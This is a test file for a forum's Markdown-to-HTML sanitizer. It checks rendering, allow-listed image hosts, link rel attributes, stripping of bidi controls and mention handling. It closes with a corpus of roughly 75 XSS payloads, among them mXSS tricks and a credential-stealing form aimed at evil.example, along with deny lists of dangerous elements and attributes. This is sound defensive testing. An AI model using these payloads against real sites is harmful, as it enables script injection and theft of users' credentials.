import { afterEach, describe, it, expect, vi } from "vitest";
import { DEFAULT_IMAGE_HOSTS, imageHosts, parseImageHosts } from "./image-hosts";
import { cook, markdownProblem, renderMarkdown, renderPlainText } from "./markdown";
import { fieldErrors, replyInput } from "../validation";

// --- A strict reader for the renderer's output -------------------------------------------
// No HTML parser (rehype-parse, hast-util-from-html, parse5) is installed, so this reads the
// output of hast-util-to-html, which is regular: text escapes `<` and `&`, attribute values
// are always double-quoted with `"` and `&` escaped. Every `<` must therefore open a
// well-formed tag; anything else (a comment, a doctype, a stray `<`) throws, which fails the
// test instead of being silently skipped.

type Tag = { name: string; closing: boolean; attrs: Array<[string, string]> };

const TAG_AT = /<(\/?)([A-Za-z][A-Za-z0-9-]*)((?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*)\s*\/?>/y;
const ATTR = /\s+([^\s"'<>/=]+)(?:="([^"]*)")?/g;

function decodeEntities(s: string): string {
  const named: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" };
  return s.replace(/&(#[xX][0-9A-Fa-f]+|#[0-9]+|[A-Za-z]+);/g, (all, ref: string) => {
    if (ref[0] === "#") {
      const hex = ref[1] === "x" || ref[1] === "X";
      return String.fromCodePoint(parseInt(ref.slice(hex ? 2 : 1), hex ? 16 : 10));
    }
    if (ref in named) return named[ref];
    throw new Error(`unexpected named entity ${all}`);
  });
}

function parseHtml(html: string): { tags: Tag[]; text: string } {
  const tags: Tag[] = [];
  let text = "";
  let i = 0;
  while (i < html.length) {
    const lt = html.indexOf("<", i);
    text += html.slice(i, lt < 0 ? html.length : lt);
    if (lt < 0) break;
    TAG_AT.lastIndex = lt;
    const m = TAG_AT.exec(html);
    if (!m) throw new Error(`unparseable markup at ${lt}: ${JSON.stringify(html.slice(lt, lt + 40))}`);
    const attrs: Array<[string, string]> = [];
    for (const a of m[3].matchAll(ATTR)) attrs.push([a[1].toLowerCase(), decodeEntities(a[2] ?? "")]);
    tags.push({ name: m[2].toLowerCase(), closing: m[1] === "/", attrs });
    i = lt + m[0].length;
  }
  return { tags, text: decodeEntities(text) };
}

const FORBIDDEN_ELEMENTS = [
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "style",
  "link",
  "form",
  "meta",
  "base",
  "svg",
  "math",
  "template",
  "noscript",
  "textarea",
  "button",
  "select",
  "video",
  "audio",
  "body",
  "html",
  "xss",
  "isindex",
];
const URL_ATTRS = [
  "href",
  "src",
  "action",
  "formaction",
  "xlink:href",
  "srcset",
  "cite",
  "longdesc",
  "background",
  "poster",
  "data",
];
// The scheme a browser gives a URL attribute (it trims it, drops tabs and newlines, folds case, and
// resolves a relative URL against the page). One it cannot parse, it cannot follow either.
const PAGE = "https://forum.example/t/1";
const SAFE_SCHEMES = ["http:", "https:", "mailto:"];
const schemeOf = (url: string) => (URL.canParse(url, PAGE) ? new URL(url, PAGE).protocol : null);
const IMAGE_URL = /^https:\/\/([^/:@?#]+)\//;

/** Every reason `html` would be unsafe to inject; empty means safe. */
function violations(html: string): string[] {
  const found: string[] = [];
  for (const tag of parseHtml(html).tags) {
    if (FORBIDDEN_ELEMENTS.includes(tag.name)) found.push(`<${tag.name}> element`);
    if (tag.closing) continue;
    for (const [name, value] of tag.attrs) {
      if (name.startsWith("on")) found.push(`${name} handler on <${tag.name}>`);
      if (name === "style") found.push(`style attribute on <${tag.name}>`);
      if (URL_ATTRS.includes(name) && !SAFE_SCHEMES.includes(schemeOf(value) ?? "https:"))
        found.push(`${name}=${JSON.stringify(value)}`);
    }
    if (tag.name === "img") {
      const src = tag.attrs.find(([n]) => n === "src")?.[1] ?? "";
      const host = IMAGE_URL.exec(src)?.[1];
      if (!host || !DEFAULT_IMAGE_HOSTS.includes(host)) found.push(`image from ${JSON.stringify(src)}`);
    }
    const href = tag.attrs.find(([n]) => n === "href")?.[1];
    if (tag.name === "a" && href && /^(https?:|\/\/)/i.test(href.trim())) {
      const rel = tag.attrs.find(([n]) => n === "rel")?.[1];
      if (rel !== "nofollow ugc noopener") found.push(`external link without rel: ${href}`);
    }
    if (tag.name === "input") {
      const attrs = new Map(tag.attrs);
      if (attrs.get("type") !== "checkbox" || !attrs.has("disabled")) found.push("enabled/non-checkbox <input>");
    }
  }
  return found;
}

// --- The checker itself must be able to fail -----------------------------------------------

describe("output checker", () => {
  it.each([
    ['<p><img src="x" onerror="alert(1)"></p>', "onerror"],
    ["<script>alert(1)</script>", "<script>"],
    ['<a href="JavaScript:alert(1)">x</a>', "href"],
    ['<a href=" javascript:alert(1)">x</a>', "href"],
    ['<a href="https://x.example">x</a>', "rel"],
    ['<p style="color:red">x</p>', "style"],
    ['<svg><a href="#">x</a></svg>', "<svg>"],
    ['<input type="text">', "input"],
    ['<img src="http://i.imgur.com/a.png">', "image from"],
    ['<img src="https://evil.example/a.png">', "image from"],
  ])("flags %s", (html, expected) => {
    expect(violations(html).join("\n")).toContain(expected);
  });

  it("rejects markup it cannot read instead of ignoring it", () => {
    expect(() => parseHtml("<!-- x --><p>a</p>")).toThrow(/unparseable/);
    expect(() => parseHtml("<p a='b'>x</p>")).toThrow(/unparseable/);
  });

  it("passes clean markup", () => {
    expect(
      violations(
        '<p><a href="https://x.example" rel="nofollow ugc noopener">x</a> <a href="#user-content-fn-1">1</a></p>',
      ),
    ).toEqual([]);
  });
});

// --- Normal rendering ---------------------------------------------------------------------

describe("renderMarkdown", () => {
  it("renders headings and emphasis", () => {
    const html = renderMarkdown("# Title\n\n## Sub\n\nSome *em*, **strong** and `code`.");
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<h2>Sub</h2>");
    expect(html).toContain("<p>Some <em>em</em>, <strong>strong</strong> and <code>code</code>.</p>");
  });

  it("renders lists", () => {
    const html = renderMarkdown("- one\n- two\n\n1. first\n2. second");
    expect(html).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<ol>\s*<li>first<\/li>\s*<li>second<\/li>\s*<\/ol>/);
  });

  it("renders fenced code blocks with their content escaped", () => {
    const html = renderMarkdown('```html\n<script>alert("x") && 1</script>\n```');
    expect(html).toContain(
      '<pre><code class="language-html">&#x3C;script>alert("x") &#x26;&#x26; 1&#x3C;/script>\n</code></pre>',
    );
    const { tags, text } = parseHtml(html);
    expect(tags.map((t) => t.name)).toEqual(["pre", "code", "code", "pre"]);
    expect(text).toContain('<script>alert("x") && 1</script>');
  });

  it("renders GFM tables", () => {
    const html = renderMarkdown("| a | b |\n|:--|--:|\n| 1 | 2 |");
    expect(html).toMatch(/<table>\s*<thead>\s*<tr>\s*<th align="left">a<\/th>\s*<th align="right">b<\/th>/);
    expect(html).toMatch(/<tbody>\s*<tr>\s*<td align="left">1<\/td>\s*<td align="right">2<\/td>/);
  });

  it("renders strikethrough", () => {
    expect(renderMarkdown("~~gone~~")).toBe("<p><del>gone</del></p>");
  });

  it("renders task lists as disabled checkboxes", () => {
    const html = renderMarkdown("- [ ] todo\n- [x] done");
    expect(html).toContain('<ul class="contains-task-list">');
    expect(html).toContain('<li class="task-list-item"><input type="checkbox" disabled> todo</li>');
    expect(html).toContain('<li class="task-list-item"><input type="checkbox" checked disabled> done</li>');
  });

  it("autolinks literal URLs, www. and e-mail addresses", () => {
    const html = renderMarkdown("See https://example.com/a?b=1&c=2 or www.example.org or me@example.com.");
    expect(html).toContain(
      '<a href="https://example.com/a?b=1&#x26;c=2" rel="nofollow ugc noopener">https://example.com/a?b=1&#x26;c=2</a>',
    );
    expect(html).toContain('<a href="http://www.example.org" rel="nofollow ugc noopener">www.example.org</a>');
    expect(html).toContain('<a href="mailto:me@example.com">me@example.com</a>');
  });

  it('gives links rel="nofollow ugc noopener" and keeps titles', () => {
    expect(renderMarkdown('[docs](https://example.com/docs "The docs")')).toBe(
      '<p><a href="https://example.com/docs" title="The docs" rel="nofollow ugc noopener">docs</a></p>',
    );
    expect(renderMarkdown("<http://example.com>")).toBe(
      '<p><a href="http://example.com" rel="nofollow ugc noopener">http://example.com</a></p>',
    );
  });

  it("treats protocol-relative links as external and leaves site-relative links alone", () => {
    expect(renderMarkdown("[a](//evil.example/x)")).toBe(
      '<p><a href="//evil.example/x" rel="nofollow ugc noopener">a</a></p>',
    );
    expect(renderMarkdown("[b](/t/42)")).toBe('<p><a href="/t/42">b</a></p>');
  });

  it("keeps footnote links pointing at the prefixed ids", () => {
    const html = renderMarkdown("Claim[^1].\n\n[^1]: Source.");
    expect(html).toContain('<a href="#user-content-fn-1" id="user-content-fnref-1"');
    expect(html).toContain('<li id="user-content-fn-1">');
    expect(html).toContain('<a href="#user-content-fnref-1"');
    expect(violations(html)).toEqual([]);
  });

  it("escapes plain text", () => {
    const html = renderMarkdown("a < b & c");
    expect(html).toBe("<p>a &#x3C; b &#x26; c</p>");
    expect(parseHtml(html).text).toBe("a < b & c");
  });

  it("drops raw HTML tags but keeps the visible text as inert text", () => {
    const html = renderMarkdown("before <script>alert(1)</script> after");
    expect(html).toBe("<p>before alert(1) after</p>");
    expect(parseHtml(html).tags.map((t) => t.name)).toEqual(["p", "p"]);
    // A block of raw HTML disappears entirely.
    expect(renderMarkdown("<script>\nalert(1)\n</script>")).toBe("");
  });

  it("keeps quotes in a link title inside the title attribute", () => {
    const html = renderMarkdown('[x](https://example.com "a\\" onclick=\\"alert(1)")');
    const a = parseHtml(html).tags[1];
    expect(a.name).toBe("a");
    expect(a.attrs).toEqual([
      ["href", "https://example.com"],
      ["title", 'a" onclick="alert(1)'],
      ["rel", "nofollow ugc noopener"],
    ]);
  });

  it("shows a payload written as code as harmless text", () => {
    const html = renderMarkdown("`<script>alert(1)</script>` and `<img src=x onerror=alert(1)>`");
    const { tags, text } = parseHtml(html);
    expect(tags.map((t) => t.name)).toEqual(["p", "code", "code", "code", "code", "p"]);
    expect(text).toBe("<script>alert(1)</script> and <img src=x onerror=alert(1)>");
  });

  it("keeps the text of a link whose URL was dropped", () => {
    const html = renderMarkdown("[click me](javascript:alert(1))");
    expect(html).toBe("<p><a>click me</a></p>");
  });
});

// --- Images -------------------------------------------------------------------------------------

describe("images", () => {
  afterEach(() => vi.unstubAllEnvs());

  it("are kept from an allowed host over https, loaded lazily and without a referrer", () => {
    expect(renderMarkdown('![plot](https://i.imgur.com/p.png "Loss")')).toBe(
      '<p><img src="https://i.imgur.com/p.png" alt="plot" title="Loss" loading="lazy" referrerpolicy="no-referrer"></p>',
    );
    for (const host of DEFAULT_IMAGE_HOSTS)
      expect(renderMarkdown(`![a](https://${host}/x.png)`)).toContain(`<img src="https://${host}/x.png"`);
  });

  it("are kept as the URL the browser reads, so the check and the browser agree", () => {
    expect(renderMarkdown("![a](HTTPS://I.IMGUR.COM/p.png)")).toContain('<img src="https://i.imgur.com/p.png"');
  });

  it.each([
    ["over plain http", "http://i.imgur.com/p.png"],
    ["from another host", "https://tracker.example/p.png"],
    ["from a host that only starts like an allowed one", "https://i.imgur.com.tracker.example/p.png"],
    ["with an allowed host as user name", "https://i.imgur.com@tracker.example/p.png"],
    ["on another port", "https://i.imgur.com:8443/p.png"],
    ["protocol-relative", "//i.imgur.com/p.png"],
    ["site-relative", "/uploads/p.png"],
  ])("become a link with their alt text when %s", (_, url) => {
    const html = renderMarkdown(`![the plot](${url})`);
    expect(html).not.toContain("<img");
    const rel = /^(https?:)?\/\//.test(url) ? ' rel="nofollow ugc noopener"' : "";
    expect(html).toBe(`<p><a href="${url}"${rel}>the plot</a></p>`);
    expect(violations(html)).toEqual([]);
  });

  it('become a link reading "image" when they have no alt text', () => {
    expect(renderMarkdown("![](https://tracker.example/p.png)")).toBe(
      '<p><a href="https://tracker.example/p.png" rel="nofollow ugc noopener">image</a></p>',
    );
  });

  it("with a data: or script URL become text, the URL dropped", () => {
    expect(renderMarkdown("![plot](data:image/png;base64,iVBORw0KGgo=)")).toBe("<p><a>plot</a></p>");
    expect(renderMarkdown("![x](javascript:alert(1))")).toBe("<p><a>x</a></p>");
    expect(renderMarkdown("![x]()")).toBe("<p>x</p>");
  });

  it("inside a link become its text, so links do not nest", () => {
    expect(renderMarkdown("[![badge](https://tracker.example/b.svg)](https://example.com)")).toBe(
      '<p><a href="https://example.com" rel="nofollow ugc noopener">badge</a></p>',
    );
    expect(renderMarkdown("[![badge](https://i.imgur.com/b.png)](https://example.com)")).toContain(
      '<img src="https://i.imgur.com/b.png"',
    );
  });

  it("are kept from the hosts IMAGE_HOSTS adds, read at render time", () => {
    const source = "![a](https://images.example.org/a.png)";
    expect(renderMarkdown(source)).not.toContain("<img");
    vi.stubEnv("IMAGE_HOSTS", " Images.Example.org , cdn.example.net");
    expect(renderMarkdown(source)).toContain('<img src="https://images.example.org/a.png"');
    expect(renderMarkdown("![b](https://cdn.example.net/b.png)")).toContain("<img");
    expect(renderMarkdown("![c](https://i.imgur.com/c.png)")).toContain("<img");
  });
});

describe("the image host list", () => {
  it("is the defaults plus IMAGE_HOSTS, without repeats", () => {
    expect(imageHosts({})).toEqual([...DEFAULT_IMAGE_HOSTS]);
    expect(imageHosts({ IMAGE_HOSTS: "i.imgur.com,img.example.org" })).toEqual([
      ...DEFAULT_IMAGE_HOSTS,
      "img.example.org",
    ]);
  });

  it("takes only plain hostnames, since each goes into the CSP header as it is", () => {
    expect(
      parseImageHosts(
        "a.example, ,https://b.example,c.example:443,*.d.example,e.example; script-src *,f.example/x,G.EXAMPLE",
      ),
    ).toEqual(["a.example", "g.example"]);
    expect(parseImageHosts(undefined)).toEqual([]);
  });
});

// --- Counting links and images ------------------------------------------------------------------

describe("cook", () => {
  it("returns the same HTML as renderMarkdown", () => {
    const source = "# Hi\n\n[a](https://example.com) ![b](https://i.imgur.com/b.png)";
    expect(cook(source).html).toBe(renderMarkdown(source));
  });

  it("counts links of every kind, and no footnote calls", () => {
    const source = [
      "[inline](https://example.com) <https://auto.example> https://bare.example/x www.example.org me@example.com",
      "[ref] and [full][ref] and [dropped](javascript:alert(1)) and [site](/t/1)",
      "A claim[^1].",
      "[ref]: https://ref.example",
      "[^1]: See [source](https://source.example).",
    ].join("\n\n");
    expect(cook(source)).toMatchObject({ links: 10, images: 0 });
  });

  it("counts images whether shown or turned into links, and not as links", () => {
    const source =
      "![a](https://i.imgur.com/a.png) ![b](http://tracker.example/b.png) ![c][img]\n\n[img]: https://c.example/c.png";
    expect(cook(source)).toMatchObject({ links: 0, images: 3 });
    expect(cook("[![badge](https://i.imgur.com/b.png)](https://example.com)")).toMatchObject({ links: 1, images: 1 });
  });

  it("counts nothing in code, in text that only looks like a link, or in plain prose", () => {
    expect(
      cook("`[a](https://x.example)`\n\n```\n![b](https://i.imgur.com/b.png)\n```\n\n[not a link] ![nor][this]"),
    ).toMatchObject({ links: 0, images: 0 });
    expect(cook("")).toEqual({ html: "", text: "", links: 0, images: 0, mentions: [] });
  });

  it("returns the text a reader sees, for search: no markup, blocks on their own lines, nothing the sanitizer removed", () => {
    const source =
      "# Title\n\nSome **bold** and `<b>code</b>` with [a link](https://example.com).\n\n- one\n- two\n\n<script>alert(1)</script>\n\n![alt words](https://i.imgur.com/a.png)";
    expect(cook(source).text).toBe("Title\nSome bold and <b>code</b> with a link.\none\ntwo\nalt words");
    expect(cook("a  \nb").text).toBe("a\nb");
  });

  it("returns the source as the text when it is shown as plain text", () => {
    const deep = "> ".repeat(200) + "quoted";
    expect(cook(deep).text).toBe(deep);
  });

  it("links @mentions in text to profiles and returns the logins, never in code, links or addresses", () => {
    const cooked = cook(
      "Hi @ada and @Grace-H, @ADA again. `@code`\n\n```\n@block\n```\n\n[@linked](https://x.example) ada@example.com /@path **@bold**",
    );
    expect(cooked.mentions).toEqual(["ada", "Grace-H", "bold"]);
    expect(cooked.html).toContain('<a href="/u/ada">@ada</a>');
    expect(cooked.html).toContain('<a href="/u/Grace-H">@Grace-H</a>');
    expect(cooked.html).toContain("<code>@code</code>");
    expect(cooked.html).not.toContain("/u/linked");
    expect(cooked.html).not.toContain("/u/example");
    // Mentions are not links for the new-account limits.
    expect(cooked.links).toBe(1 + 1);
  });

  it("shows input past the bounds as text, with no links or images in it", () => {
    const source = "- ".repeat(20) + "[x](https://example.com) ![y](https://i.imgur.com/y.png)";
    const cooked = cook(source);
    expect(cooked).toMatchObject({ links: 0, images: 0 });
    expect(cooked.html).not.toMatch(/<(a|img)\b/);
  });
});

// --- Direction controls ---------------------------------------------------------------------------

describe("direction controls", () => {
  // Embeddings, overrides, pops and isolates (LRE RLE PDF LRO RLO, LRI RLI FSI PDI), as titles drop them.
  const ALL = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069";
  const ANY = /[\u202a-\u202e\u2066-\u2069]/;
  const withoutCode = (html: string) => html.replace(/<code\b[^>]*>[^<]*<\/code>/g, "");

  it("are dropped from a post's text: paragraphs, headings, list items, emphasis, link text, tables, and its plain text", () => {
    const source = [
      `# Head${ALL}ing`,
      `Pay \u202e0001$\u202c now, *em${ALL}* **str\u2067ong\u2069** and [link\u202etext](https://example.com)`,
      `- item\u202e one\n- \u2066two`,
      `> quo\u202dted`,
      `| a\u202b | b |\n|---|---|\n| c\u2068 | d |`,
    ].join("\n\n");
    const { html, text } = cook(source);
    expect(html).not.toMatch(ANY);
    expect(text).not.toMatch(ANY);
    expect(html).toContain("<h1>Heading</h1>");
    expect(html).toContain("Pay 0001$ now, <em>em</em> <strong>strong</strong> and ");
    expect(html).toContain(">linktext</a>");
    expect(html).toContain("<li>item one</li>\n<li>two</li>");
    expect(text).toContain("Heading\nPay 0001$ now, em strong and linktext\nitem one\ntwo\nquoted");
  });

  it("are dropped from a code block's language, which becomes its class", () => {
    const { html } = cook(`\`\`\`a\u2066b${ALL}
code
\`\`\`

\`\`\`${ALL}
more
\`\`\``);
    expect(html).toContain('<pre><code class="language-ab">code\n</code></pre>');
    expect(html).toContain("<pre><code>more\n</code></pre>");
    expect(html).not.toMatch(ANY);
  });

  it("are dropped when written as character references too", () => {
    expect(cook("Pay &#x202E;0001$&#8236; now").html).toBe("<p>Pay 0001$ now</p>");
  });

  it("are kept inside inline code and code blocks, which show code as written", () => {
    const { html } = cook(`Run \`a${ALL}b\` then:\n\n\`\`\`sh\nif x${ALL}y; then\n\`\`\`\n\n    indented\u202e`);
    expect(html).toContain(`<code>a${ALL}b</code>`);
    expect(html).toContain(`<code class="language-sh">if x${ALL}y; then\n</code>`);
    expect(html).toContain("<code>indented\u202e\n</code>");
    expect(withoutCode(html)).not.toMatch(ANY);
  });

  it("are dropped from the plain text even in code, since search quotes it without the code around it", () => {
    expect(cook("`a\u202eb` c\u202ed").text).toBe("ab cd");
  });

  it("are dropped from image alt text and from titles; in URLs they are percent-encoded", () => {
    const shown = cook(
      `![al${ALL}t](https://i.imgur.com/a.png "ti\u202etle") [x](https://example.com/\u202e/p "li\u2066nk")`,
    );
    expect(shown.html).toContain('alt="alt" title="title"');
    expect(shown.html).toContain('href="https://example.com/%E2%80%AE/p" title="link"');
    expect(shown.text).toBe("alt x");
    expect(cook("![al\u202et](https://tracker.example/a.png)").html).toContain(">alt</a>");
    expect(cook("https://example.com/a\u202eb").html).toBe(
      '<p><a href="https://example.com/a%E2%80%AEb" rel="nofollow ugc noopener">https://example.com/ab</a></p>',
    );
  });

  it("hide no mention: `@` and a login with one between them read, and link, as a mention", () => {
    expect(cook("Hi @\u202eada").mentions).toEqual(["ada"]);
  });

  it("make no body on their own: refused like an empty one, and rendered as nothing to read", () => {
    expect(fieldErrors(replyInput.safeParse({ body: ` ${ALL}\n${ALL} ` }).error!)).toEqual({
      body: "Write something first.",
    });
    expect(cook(ALL)).toMatchObject({ html: "<p></p>", text: "" });
  });

  it("are dropped from input past the bounds, shown as plain text without any code", () => {
    const { html, text } = cook(`${"- ".repeat(20)}a\u202eb \`c${ALL}d\``);
    expect(html).not.toMatch(ANY);
    expect(text).not.toMatch(ANY);
    expect(text).toBe(`${"- ".repeat(20)}ab \`cd\``);
  });
});

// --- Input past the bounds ------------------------------------------------------------------------
// What the version is for (re-rendering stored posts) is tested in db/rerender.test.ts.

describe("Markdown past the bounds", () => {
  const tooDeep = "- ".repeat(20) + "<b>bold</b> & [x](javascript:alert(1))";

  it("is refused by the check the forms use", () => {
    expect(markdownProblem(tooDeep)).toBe("Lists and quotes can nest at most 10 levels deep.");
    expect(markdownProblem("- a\n  - b\n\n> quote")).toBeNull();
  });

  it("renders as escaped plain text, one paragraph per block, without parsing it", () => {
    const html = renderMarkdown(`${tooDeep}\nsecond line\n\n\n<script>alert(1)</script>`);
    expect(html).toBe(
      "<p>- - - - - - - - - - - - - - - - - - - - &#x3C;b>bold&#x3C;/b> &#x26; [x](javascript:alert(1))<br>\nsecond line</p>\n" +
        "<p>&#x3C;script>alert(1)&#x3C;/script></p>",
    );
    expect(violations(html)).toEqual([]);
  });

  it("renders nothing for blank text", () => {
    expect(renderPlainText(" \n\n \r\n")).toBe("");
  });
});

// --- XSS corpus ---------------------------------------------------------------------------

const XSS_CORPUS: string[] = [
  // raw HTML elements
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  "<style>body{display:none}</style>",
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div onmouseover="alert(1)">hover</div>',
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<math href="javascript:alert(1)">CLICK</math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>-->",
  '<xss style="behavior:url(x.htc)">x</xss>',
  "<isindex action=javascript:alert(1) type=image>",
  // Markdown links and images
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
  "[x](javascript://%0Aalert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](  javascript:alert(1)  )",
  "[x](jav&#x09;ascript:alert(1))",
  "[x](jav&#10;ascript:alert(1))",
  "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](%6Aavascript:alert(1))",
  String.raw`[x](\u006Aavascript:alert(1))`,
  "[x](java&Tab;script:alert(1))",
  "[x](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x](java\nscript:alert(1))",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](vbscript:msgbox(1))",
  '![x](https://example.com/a.png"onerror="alert(1))',
  // autolinks
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<vbscript:msgbox(1)>",
  "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
  "javascript:alert(1) www.example.com/javascript:alert(1)",
  // reference-style definitions
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "![x][ref]\n\n[ref]: javascript:alert(1)",
  '[x][ref]\n\n[ref]: <JaVaScRiPt:alert(1)> "title"',
  // titles trying to break out of the attribute
  '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
  "[x](https://example.com 'a\" onclick=\"alert(1)')",
  '![x](https://example.com/a.png "\\"><img src=x onerror=alert(1)>")',
  // payloads inside GFM constructs
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [x] <img src=x onerror=alert(1)>",
  "a[^x]\n\n[^x]: [y](javascript:alert(1))",
  "[<img src=x onerror=alert(1)>](https://example.com)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "~~<svg onload=alert(1)>~~",
];

describe("XSS corpus", () => {
  it("has at least 35 distinct payloads", () => {
    expect(new Set(XSS_CORPUS).size).toBe(XSS_CORPUS.length);
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(35);
  });

  it.each(XSS_CORPUS.map((payload) => [payload]))("neutralises %j", (payload) => {
    const html = renderMarkdown(payload);
    expect(violations(html)).toEqual([]);
  });
});
